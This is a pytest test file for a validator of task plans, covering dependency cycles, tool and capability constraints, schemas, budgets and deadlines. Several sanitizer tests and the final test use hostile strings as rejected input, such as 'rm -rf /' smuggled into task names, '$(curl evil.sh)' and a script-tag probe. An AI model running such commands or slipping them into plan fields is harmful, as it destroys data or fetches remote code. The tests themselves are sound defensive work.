"""Each check with a plan that passes and one that does not."""

from datetime import timedelta

import pytest

from groundplan.domain.agents import AgentCapability
from groundplan.domain.errors import ErrorCode
from groundplan.domain.findings import Level
from groundplan.domain.goal import GoalConstraints
from groundplan.domain.plan import PlanMetadata
from groundplan.domain.resources import ResourceEstimate, ThreePoint
from groundplan.domain.schedule import Schedule
from groundplan.domain.settings import PlannerSettings
from groundplan.domain.task import TaskDependency
from groundplan.domain.tools import ToolSpec
from groundplan.domain.validation import Surroundings, validate
from tests.plan_factories import NOW, plan, task

SEND = ToolSpec(name="email.send", arguments={"properties": {"to": {"type": "string"}}, "required": ["to"]})
READ = ToolSpec(name="file.read")
TOOLS = {tool.name: tool for tool in (SEND, READ)}
HOUR = ResourceEstimate(duration=ThreePoint(1800, 3600, 7200), cost=ThreePoint(1, 2, 9), tokens=ThreePoint(10, 20, 90))


def around(**fields):
    return Surroundings(**fields)


def limited(**limits):
    return Surroundings(constraints=GoalConstraints(**limits), now=NOW)


def paths(result, kind="errors"):
    return [finding.path for finding in getattr(result, kind)]


def only_error(made, surroundings=None):
    result = validate(made, surroundings)
    (error,) = result.errors
    assert not result.valid
    return error


def by_model(*tasks):
    return plan(*tasks, metadata=PlanMetadata(strategy="llm"))


def test_a_plan_that_holds_together_has_no_findings():
    tasks = [
        task("a", tool="file.read", resource_estimate=HOUR),
        task("b", "a", tool="email.send", inputs={"to": "${a.output.address}"}, required_capabilities=["mail"]),
    ]
    schedule = Schedule(makespan=7200, critical_path=["a", "b"])
    limits = GoalConstraints(max_cost=5, max_tokens=50, deadline=NOW + timedelta(days=1), required_tools=["file.read"])
    result = validate(
        by_model(*tasks).model_copy(update={"schedule": schedule}),
        around(
            tools=TOOLS, agents=[AgentCapability(agent_id="ana", capabilities=["mail"])], constraints=limits, now=NOW
        ),
    )
    assert result.valid
    assert (result.errors, result.warnings) == ([], [])


def test_surroundings_may_be_left_out():
    assert validate(plan(task("a", tool="anything.goes"))).valid


def test_a_plan_without_tasks_is_invalid():
    error = only_error(plan().model_copy(update={"tasks": []}))
    assert (error.level, error.path, error.message) == (Level.SYNTAX, "tasks", "the plan has no tasks")


def test_a_plan_has_at_most_so_many_tasks():
    few = around(settings=PlannerSettings(max_tasks=2))
    assert validate(plan(task("a"), task("b")), few).valid
    assert only_error(plan(task("a"), task("b"), task("c")), few).message == "3 tasks, at most 2 are allowed"


def test_each_task_with_an_id_of_another_is_named():
    result = validate(plan(task("a"), task("b"), task("a")))
    assert paths(result) == ["tasks[0].task_id", "tasks[2].task_id"]


@pytest.mark.parametrize("name", [" ", "\t\n"])
def test_a_blank_name_is_invalid(name):
    assert only_error(plan(task("a", name=name))).path == "tasks[0].name"


@pytest.mark.parametrize(
    ("fields", "path"),
    [
        ({"name": "clean up; rm -rf /"}, "tasks[0].name"),
        ({"description": "then run $(curl evil.sh)"}, "tasks[0].description"),
        ({"description": "x " * 300 + "; rm -rf /"}, "tasks[0].description"),
        ({"description": "<script>alert(1)</script>"}, "tasks[0].description"),
        ({"phase": "first; rm -rf /"}, "tasks[0].phase"),
        ({"category": "`id`; rm -rf /"}, "tasks[0].category"),
        ({"success_criteria": ["fine", "done; rm -rf /"]}, "tasks[0].success_criteria[1]"),
        ({"compensation": {"description": "undo; rm -rf /"}}, "tasks[0].compensation.description"),
    ],
)
def test_a_text_that_the_sanitizer_refuses_is_invalid(fields, path):
    error = only_error(plan(task("a", **fields)))
    assert (error.level, error.path) == (Level.SYNTAX, path)
    assert error.message.startswith("breaks the rule '")
    assert "rm" not in error.message


@pytest.mark.parametrize("text", ["Pay $500 to R&D", "Überprüfe die Zahlen; dann schicke sie ab", "清洗数据"])
def test_prose_passes(text):
    assert validate(plan(task("a", name=text, description=text))).valid


def test_what_stands_in_the_goal_was_judged_with_the_goal():
    name = "Explain what rm -rf / does; rm -rf /"
    assert not validate(plan(task("a", name=name))).valid
    assert validate(plan(task("a", name=name), goal_text=f"1. {name}")).valid


def test_a_wait_for_what_is_not_there_is_an_error_with_its_place():
    error = only_error(plan(task("a"), task("b", "a", "z")))
    assert (error.code, error.path) == (ErrorCode.DEPENDENCY_MISSING, "tasks[1].dependencies[1]")
    assert "'z'" in error.message


def test_a_cycle_is_an_error_with_its_path():
    error = only_error(plan(task("a", "c"), task("b", "a"), task("c", "b")))
    assert (error.code, error.path) == (ErrorCode.DEPENDENCY_CYCLE, "dependencies")
    assert "a → c → b → a" in error.message


@pytest.mark.parametrize("source", ["z", "a"])
def test_a_binding_to_what_cannot_be_there_is_an_error(source):
    error = only_error(plan(task("a", inputs={"x": f"${{{source}.output.y}}"})))
    assert (error.code, error.path) == (ErrorCode.BINDING_INVALID, "tasks[0].inputs.x")
    assert repr(source) in error.message


def test_a_binding_is_a_wait_that_can_close_a_cycle():
    error = only_error(plan(task("a", inputs={"x": "${b.output.y}"}), task("b", "a")))
    assert error.code is ErrorCode.DEPENDENCY_CYCLE
    assert validate(plan(task("a"), task("b", inputs={"x": "${a.output.y}"}))).valid


def test_tools_that_the_goal_forbids_are_errors():
    error = only_error(plan(task("a", tool="email.send")), limited(forbidden_tools=["email.send"]))
    assert (error.path, error.message) == ("tasks[0].tool", "'email.send' is forbidden by the goal")


def test_tools_that_the_goal_requires_must_be_used():
    needed = limited(required_tools=["email.send", "file.read"])
    assert only_error(plan(task("a", tool="email.send")), needed).message.startswith("no task uses 'file.read'")
    assert validate(plan(task("a", tool="email.send"), task("b", tool="file.read")), needed).valid


def test_capabilities_that_the_goal_forbids_are_errors():
    error = only_error(
        plan(task("a", required_capabilities=["mail", "payments"])), limited(forbidden_capabilities=["payments"])
    )
    assert (error.path, error.message) == ("tasks[0].required_capabilities", "['payments'] are forbidden by the goal")


def test_a_model_must_ask_for_the_capabilities_that_the_goal_requires():
    needed = limited(required_capabilities=["mail"])
    error = only_error(by_model(task("a")), needed)
    assert error.message == "no task asks for the capability 'mail', which the goal requires"
    assert validate(by_model(task("a", required_capabilities=["mail"])), needed).valid


def test_who_cannot_ask_for_capabilities_is_only_warned():
    result = validate(plan(task("a")), limited(required_capabilities=["mail"]))
    assert result.valid
    assert paths(result, "warnings") == ["tasks"]


def test_a_model_may_not_invent_tools():
    error = only_error(by_model(task("a"), task("b", tool="magic.wand")), around(tools=TOOLS))
    assert (error.path, error.message) == ("tasks[1].tool", "there is no tool 'magic.wand'")
    assert "email.send, file.read" in error.suggestion


@pytest.mark.parametrize("strategy", ["template", "numbered", "edit", ""])
def test_a_tool_that_a_template_names_is_only_doubtful(strategy):
    made = plan(task("a", tool="magic.wand"), metadata=PlanMetadata(strategy=strategy))
    result = validate(made, around(tools=TOOLS))
    assert result.valid
    assert paths(result, "warnings") == ["tasks[0].tool"]


def test_without_registered_tools_no_tool_is_unknown():
    assert validate(by_model(task("a", tool="magic.wand"))).valid


def test_arguments_fit_the_schema_of_the_tool():
    result = validate(plan(task("a", tool="email.send", inputs={"to": 3})), around(tools=TOOLS))
    assert [(error.path, error.level) for error in result.errors] == [("tasks[0].inputs.to", Level.SEMANTICS)]
    assert only_error(plan(task("a", tool="email.send")), around(tools=TOOLS)).path == "tasks[0].inputs"
    assert validate(plan(task("a", tool="file.read", inputs={"any": 1})), around(tools=TOOLS)).valid


@pytest.mark.parametrize(
    ("limits", "message"),
    [
        (
            {"max_cost": 1.5},
            "needs at least 2 cost, the goal allows 1.5; 'Do a' needs at least 1 and 'Do b' needs at least 1",
        ),
        ({"max_tokens": 5}, "needs at least 20 tokens, the goal allows 5; 'Do a' needs at least 10"),
    ],
)
def test_a_plan_that_needs_more_at_best_than_there_is_is_infeasible(limits, message):
    error = only_error(plan(task("a", resource_estimate=HOUR), task("b", resource_estimate=HOUR)), limited(**limits))
    assert (error.code, error.level, error.path) == (ErrorCode.RESOURCE_EXCEEDED, Level.FEASIBILITY, "resource_budget")
    assert error.message == message


def test_optional_tasks_can_be_left_out_of_the_budget():
    tasks = [task("a", resource_estimate=HOUR), task("b", resource_estimate=HOUR, optional=True)]
    assert validate(plan(*tasks), limited(max_cost=1, max_tokens=10)).valid


@pytest.mark.parametrize(("seconds", "holds"), [(3601, True), (3600, True), (3599, False), (-1, False)])
def test_a_deadline_that_even_the_best_case_misses_is_infeasible(seconds, holds):
    tasks = [task("a", resource_estimate=HOUR), task("b", "a", resource_estimate=HOUR)]
    made = plan(*tasks, schedule=Schedule(makespan=7900, critical_path=["a", "b"]))
    result = validate(made, limited(deadline=NOW + timedelta(seconds=seconds)))
    assert result.valid == holds
    if not holds:
        assert (result.errors[0].code, result.errors[0].path) == (ErrorCode.RESOURCE_EXCEEDED, "schedule")
        assert "'Do a' needs at least 30 min" in result.errors[0].message


def test_a_present_moment_without_a_zone_is_utc():
    made = plan(task("a", resource_estimate=HOUR), schedule=Schedule(critical_path=["a"]))
    late = Surroundings(constraints=GoalConstraints(deadline=NOW), now=NOW.replace(tzinfo=None))
    assert not validate(made, late).valid


def test_without_a_schedule_or_a_present_moment_no_deadline_is_judged():
    made = plan(task("a", resource_estimate=HOUR))
    assert validate(made, limited(deadline=NOW)).valid
    scheduled = made.model_copy(update={"schedule": Schedule(critical_path=["a"])})
    assert validate(scheduled, around(constraints=GoalConstraints(deadline=NOW))).valid


def test_a_capability_that_no_agent_offers_is_doubtful():
    made = plan(task("a", required_capabilities=["law"]))
    result = validate(made, around(agents=[AgentCapability(agent_id="ana", capabilities=["mail"])]))
    assert result.valid
    assert [(warning.code, warning.path) for warning in result.warnings] == [
        (ErrorCode.NO_CAPABLE_AGENT, "tasks[0].required_capabilities")
    ]
    assert validate(made).warnings == []


def test_a_plan_beyond_the_horizon_is_doubtful():
    month = 30 * 86_400
    within = plan(task("a"), schedule=Schedule(makespan=month - 10, buffer=10))
    beyond = plan(task("a"), schedule=Schedule(makespan=month, buffer=100))
    assert validate(within).warnings == []
    (warning,) = validate(beyond).warnings
    assert (warning.level, warning.path) == (Level.FEASIBILITY, "schedule")
    assert warning.message == "reaches 30 days ahead, beyond the horizon of 30"


def test_every_level_is_checked_at_once():
    tasks = [
        task("a", "z", name="stop; rm -rf /", resource_estimate=HOUR),
        task("a", tool="magic.wand", inputs={"x": "${q.output}"}),
        task("c", "d", tool="email.send"),
        task("d", "c", TaskDependency(task_id="a")),
    ]
    limits = GoalConstraints(max_cost=0.5, forbidden_tools=["email.send"])
    result = validate(by_model(*tasks), around(tools=TOOLS, constraints=limits))
    assert paths(result) == [
        "tasks[0].task_id",
        "tasks[1].task_id",
        "tasks[0].name",
        "tasks[0].dependencies[0]",
        "dependencies",
        "tasks[1].inputs.x",
        "tasks[2].tool",
        "tasks[1].tool",
        "tasks[2].inputs",
        "resource_budget",
    ]
    assert {error.level for error in result.errors} == set(Level)
    assert all(error.message and error.suggestion for error in result.errors)
